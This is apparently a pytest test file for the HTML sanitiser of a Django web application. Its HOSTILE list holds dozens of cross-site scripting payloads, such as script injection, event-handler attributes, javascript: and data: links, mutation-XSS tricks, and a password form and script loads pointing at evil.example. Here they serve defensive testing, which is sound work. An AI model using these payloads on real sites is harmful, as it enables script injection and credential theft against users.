"""The sanitiser: what is written is shown, and nothing of it is ever run, loaded or disguised."""

import re
from urllib.parse import urlsplit

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.outils.bornes import bounded, fill
from tests.outils.textes import ANY_TEXT, Page
from texte.riche import LONGEST_HTML, MAX_LENGTH, TAGS, RichTextFormField, render_rich, sanitise
from texte.simple import plain_lines

REL = "noopener noreferrer nofollow"


def is_allowed(tag, name, value):
    if (tag, name) == ("a", "rel"):
        return value == REL
    if (tag, name) != ("a", "href"):
        return False
    try:
        parts = urlsplit(value.strip())
    except ValueError:
        return False
    return parts.scheme == "mailto" or (parts.scheme == "https" and bool(parts.netloc))


def faults(text):
    """Everything in `text` that the editor could not have made."""
    page = Page(text)
    return (
        [tag for tag in page.tags if tag not in TAGS]
        + [attribute for attribute in page.attributes if not is_allowed(*attribute)]
        + page.others
    )


HOSTILE = [
    "<p><script>alert(1)</script></p>",
    "<p>a</p><script src=//evil.example/x.js></script>",
    "<p>a<ScRiPt>alert(1)</sCrIpT></p>",
    "<p><scr<script>ipt>alert(1)</scr</script>ipt></p>",
    "<p><img src=x onerror=alert(1)></p>",
    "<p><img src='https://evil.example/pixel.gif'></p>",
    "<p><svg onload=alert(1)></svg></p>",
    "<p><svg><script>alert(1)</script></svg></p>",
    "<p><svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg></p>",
    "<p><svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></a></style></svg>",
    "<p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math></p>",
    "<p><math href='javascript:alert(1)'>x</math></p>",
    "<p onclick=alert(1)>a</p>",
    "<p style='position:fixed;inset:0;background:red'>a</p>",
    "<p style='background:url(https://evil.example/x)'>a</p>",
    "<p class='card notice' id='contenu'>a</p>",
    "<p dir=rtl lang=ar title='x' data-x=1 hidden contenteditable tabindex=0>a</p>",
    "<p><style>body{display:none}</style></p>",
    "<p><style>@import 'https://evil.example/x.css';</style></p>",
    "<p><link rel=stylesheet href=https://evil.example/x.css></p>",
    "<p><meta http-equiv=refresh content='0;url=https://evil.example'></p>",
    "<p><base href='https://evil.example/'></p>",
    "<p><iframe src='https://evil.example'></iframe></p>",
    "<p><iframe srcdoc='<script>alert(1)</script>'></iframe></p>",
    "<p><object data='https://evil.example/x.swf'></object></p>",
    "<p><embed src='https://evil.example/x.swf'></p>",
    "<p><video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio></p>",
    "<p><form action='https://evil.example'><input name=password><button>Entrer</button></p>",
    "<p><textarea></p><script>alert(1)</script></textarea>",
    "<p><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript></p>",
    "<p><template><script>alert(1)</script></template></p>",
    "<p><title><img src=x onerror=alert(1)></title></p>",
    "<p><xmp><script>alert(1)</script></xmp></p>",
    "<p><plaintext><script>alert(1)</script>",
    "<p><details open ontoggle=alert(1)>a</details></p>",
    "<p><body onload=alert(1)>a</p>",
    "<p><!-- <script>alert(1)</script> --></p>",
    "<p><!--><script>alert(1)</script>--></p>",
    "<p><![CDATA[<script>alert(1)</script>]]></p>",
    "<p><?php echo 1 ?><!DOCTYPE html></p>",
    "<p><a href='javascript:alert(1)'>a</a></p>",
    "<p><a href='JaVaScRiPt:alert(1)'>a</a></p>",
    "<p><a href=' javascript:alert(1)'>a</a></p>",
    "<p><a href='java\tscript:alert(1)'>a</a></p>",
    "<p><a href='java&#10;script:alert(1)'>a</a></p>",
    "<p><a href='&#106;avascript:alert(1)'>a</a></p>",
    "<p><a href='&#1;javascript:alert(1)'>a</a></p>",
    "<p><a href='javascript&colon;alert(1)'>a</a></p>",
    "<p><a href='data:text/html;base64,PHNjcmlwdD4='>a</a></p>",
    "<p><a href='vbscript:msgbox(1)'>a</a></p>",
    "<p><a href='file:///etc/passwd'>a</a></p>",
    "<p><a href='http://evil.example'>a</a></p>",
    "<p><a href='//evil.example'>a</a></p>",
    "<p><a href='/comptes/deconnexion/'>a</a></p>",
    "<p><a href='https:///evil.example'>a</a></p>",
    "<p><a href='https:evil.example'>a</a></p>",
    "<p><a href='https:\\\\evil.example'>a</a></p>",
    "<p><a href='https://[evil.example'>a</a></p>",
    "<p><a href='https://ok.example' onclick=alert(1) target=_blank rel=opener>a</a></p>",
    "<p><a href='https://ok.example' download ping='https://evil.example' style='x:y'>a</a></p>",
    "<p><strong onmouseover=alert(1)>a</strong><em style=x>b</em><br onfocus=alert(1)></p>",
    "<ul type=disc><li value=3 onclick=alert(1)>a</li></ul><ol start=9 reversed><li>b</li></ol>",
    "<blockquote cite='javascript:alert(1)'>a</blockquote>",
    "<h3 id=x>a</h3><h1>b</h1><h6>c</h6><marquee>d</marquee><blink>e</blink><font size=7>f</font>",
    "<p>a</p><table background='javascript:alert(1)'><tr><td onclick=alert(1)>b</td></tr></table>",
    "<p/onclick=alert(1)>a",
    "<p\x00onclick=alert(1)>a</p><scr\x00ipt>alert(1)</script>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<<p>script>alert(1)<</p>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_but_what_the_editor_makes_comes_out_of_a_hostile_text(text):
    assert faults(sanitise(text)) == []


def test_the_hostile_table_is_long_and_the_detector_sees_what_it_holds():
    assert len(HOSTILE) >= 60
    harmless = {text for text in HOSTILE if not faults(text)}
    assert len(HOSTILE) - len(harmless) >= 60, harmless


GOOD = (
    "<h3>Bilan</h3><h4>Suite</h4><p>Un <strong>mot</strong> et <em>un autre</em><br>ligne</p>"
    "<ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>c</p></blockquote>"
)


def test_everything_that_the_editor_makes_is_kept():
    assert sanitise(GOOD) == GOOD


@pytest.mark.parametrize(
    "address", ["https://exemple.fr/p?a=1#b", "HTTPS://exemple.fr", "mailto:cio@exemple.fr"]
)
def test_an_allowed_link_keeps_its_address(address):
    page = Page(sanitise(f"<p><a href='{address}'>a</a></p>"))
    assert ("a", "href", address) in page.attributes


def test_a_link_tells_the_other_site_nothing_of_where_it_stood():
    page = Page(sanitise("<p><a href='https://exemple.fr' rel='opener'>a</a></p>"))
    assert ("a", "rel", REL) in page.attributes


@pytest.mark.parametrize(
    "text", ["", None, "  \n ", "<p></p>", "<p>&nbsp;<br> </p>", "<p>\xa0</p>"]
)
def test_a_text_without_a_visible_character_is_empty(text):
    assert sanitise(text) == ""
    assert sanitise("<p>.</p>") == "<p>.</p>"


def test_marks_that_turn_a_text_round_are_taken_out():
    assert sanitise("rdv \u202e1202 niuj\u2066 !\x07\x00") == "<p>rdv 1202 niuj !</p>"


PIECES = st.sampled_from(
    [*(f"<{tag}>" for tag in sorted(TAGS)), *(f"</{tag}>" for tag in sorted(TAGS))]
    + [
        "<h1>",
        "</h1>",
        "<h6>",
        "<table>",
        "<td>",
        "</table>",
        "<div>",
        "</div>",
        "<p",
        "<",
        ">",
        "&",
    ]
    + [
        "&lt;",
        "&amp;",
        "&nbsp;",
        "&#60;",
        "<!--",
        "-->",
        "<script>",
        "</script>",
        "<svg>",
        "</svg>",
    ]
    + [
        "<a href='https://a.fr'>",
        "<a href='//a.fr'>",
        "<style>",
        "</style>",
        "mot",
        " ",
        "\n",
        "\r",
    ]
)
HTMLISH = st.lists(st.one_of(PIECES, st.text(max_size=4)), max_size=14).map("".join)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.one_of(ANY_TEXT, HTMLISH))
def test_no_text_at_all_brings_out_a_tag_or_an_attribute_that_is_not_allowed(text):
    assert faults(sanitise(text)) == []


@settings(max_examples=200, deadline=None, derandomize=True)
@given(ANY_TEXT)
def test_a_plain_text_saved_twice_does_not_change(text):
    once = sanitise(text)
    assert sanitise(once) == once


@settings(max_examples=300, deadline=None, derandomize=True)
@given(HTMLISH)
def test_a_rich_text_saved_twice_does_not_change(text):
    once = sanitise(text)
    assert sanitise(once) == once


@pytest.mark.parametrize(
    "text",
    [
        "<h1>Bilan</h1><p>Note &lt; 10</p>",
        "<h2>Bilan &amp; suite</h2>",
        "<p>a</p>suite",
        "<ul><li>a</ul>b",
        "<blockquote>a</blockquote>",
        "<p><a href='https://exemple.fr'>lien</a></p>",
        "\ufeff<p>Bilan</p>",  # as some programs begin what they copy
        "<\x00p>Bilan</p>",
    ],
)
def test_a_text_pasted_from_elsewhere_never_shows_its_tags(text):
    once = sanitise(text)
    assert sanitise(once) == once
    shown = Page(once).words
    assert "<p>" not in shown and "&lt;" not in shown and "&amp;" not in shown


def test_a_text_longer_than_the_limit_is_refused_and_one_at_the_limit_is_not():
    field = RichTextFormField()
    assert field.clean("a" * 49_000) == f"<p>{'a' * 49_000}</p>"
    with pytest.raises(Exception, match="50"):
        field.clean("a" * 50_001)


@pytest.mark.parametrize("mark", ["&#x202E;", "&#8238;", "&#x2066;", "&#1;", "&#xFEFF;"])
def test_a_mark_written_as_an_entity_is_taken_out_too(mark):
    once = sanitise(f"<p>avant{mark}après</p>")
    assert once == "<p>avantaprès</p>" == sanitise(once)
    assert "avantaprès" in render_rich(f"<p>avant{mark}après</p>")


def test_accents_are_kept_and_piles_of_them_are_not():
    assert sanitise("<p>e\u0301ve\u0323\u0301</p>") == "<p>e\u0301ve\u0323\u0301</p>"
    assert sanitise("<p>e" + "\u0301" * 40_000 + "f</p>") == "<p>e" + "\u0301" * 8 + "f</p>"


def test_tags_nest_as_deep_as_people_write_and_no_deeper():
    lists = "<ul><li>un<ul><li>deux<ul><li>trois</li></ul></li></ul></li></ul>"
    assert sanitise(lists) == lists
    deep = sanitise("<ul><li>mot " * 3000)
    assert deep.count("<ul>") == deep.count("</ul>") == 10
    assert deep.count("mot") == 3000 and sanitise(deep) == deep


def test_a_tag_dropped_for_its_depth_sets_nothing_free():
    link = (
        '<a href="https://a.invalid/?>&lt;script>x()&lt;/script><img src=x onerror=y()>">lien</a>'
    )
    for depth in range(15, 30):
        html = sanitise("<blockquote>" * depth + f"<p>{link}</p>")
        assert not re.search(r"<(?!/?(blockquote|p|a)[ >])", re.sub(r'"[^"]*"', "", html)), html
        assert "lien" in html and sanitise(html) == html


REOPENED = "a b big code em font i nobr s small strike strong tt u".split()
HEAVY = {
    "attributes": "".join(f"<p><b x={n}></p>" for n in range(4000)),
    "attributes that hold a tag": "".join(f"<p><b x='<' y={n}></p>" for n in range(4000)),
    "attributes without a space": "".join(f"<p><b/x={n}></p>" for n in range(4000)),
    "each kind": "<p>" + "".join(f"<{k} x={n}>" for k in REOPENED for n in "123") + fill("<p>x"),
    "lists": fill("<ul><li>"),
    "quotations": fill("<blockquote><p>"),
    "links": "".join(f"<p><a href=https://a/{n}></p>" for n in range(4000)),
    "tables": fill("<table><tr><td><b>"),
    "comments": fill("<p><!--"),
    "ends": fill("<p></b></p>"),
    "half tags": fill("<p<br<"),
    "accents": fill("<p>e\u0301\u0302"),
    "entities": fill("<p>&amp;"),
    "lines": fill("\n \n"),
    "spaces": fill("a \t"),
}


@pytest.mark.parametrize("kind", HEAVY)
def test_the_heaviest_text_is_sanitised_at_once(kind):
    text = HEAVY[kind][:MAX_LENGTH]
    with bounded():
        html = sanitise(text)
    with bounded():
        shown = render_rich(html)
    assert not faults(shown)
    field = RichTextFormField(required=False)
    with bounded():
        try:
            assert len(field.clean(text)) <= LONGEST_HTML
        except ValidationError as error:
            assert "mise en forme" in error.messages[0]


def test_attributes_are_dropped_without_a_word():
    words = "".join(f"<p><b class=x{n}>mot{n}</b> suite</p>" for n in range(1000))
    html = sanitise(words[:MAX_LENGTH])
    assert "mot0" in html and "mot999" in html
    assert "class" not in html and "&lt;" not in html


@pytest.mark.parametrize("half", ["<br", "<", "<a", "</p"])
def test_what_is_no_tag_is_read_at_once(half):
    with bounded():
        assert plain_lines(fill(half))


def test_what_is_sent_without_the_editor_keeps_its_cells_apart():
    row = "<TR><td>6e 2</td>\n <td class=x>3</td></tr>"
    html = sanitise(f"<p>Retards</p><table><tr><th>Classe</th><th>Nombre</th></tr>{row}</table>")
    assert " ".join(html.split()) == "<p>Retards</p>Classe | Nombre<br>6e 2 | 3"
    assert sanitise(html) == html


@pytest.mark.parametrize("tag", ["del", "s", "strike"])
def test_what_was_struck_out_does_not_come_alive(tag):
    assert sanitise(f"<p>Vu par <{tag}>le CPE</{tag}> l’infirmière</p>") == (
        "<p>Vu par  l’infirmière</p>"
    )
